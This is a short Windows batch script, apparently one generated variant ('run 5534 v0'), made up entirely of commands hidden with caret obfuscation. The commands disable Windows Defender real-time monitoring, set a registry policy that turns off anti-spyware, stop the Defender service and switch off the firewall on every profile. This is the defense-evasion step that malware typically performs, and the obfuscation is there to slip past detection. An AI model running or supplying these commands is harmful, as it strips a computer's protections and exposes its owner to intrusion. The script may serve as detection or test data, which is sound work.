REM run 5534 v0
pow^ers^h^el^l -^c "Set-MpPreference -DisableRealtimeMonitoring $true"
^r^e^g a^dd "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v D^isable^An^tiS^py^w^are /^t ^RE^G_DWORD /^d 1 /f
^s^c s^top WinD^e^fe^nd
n^e^tsh ^adv^f^i^re^wal^l set all^pr^of^il^es ^st^at^e o^f^f
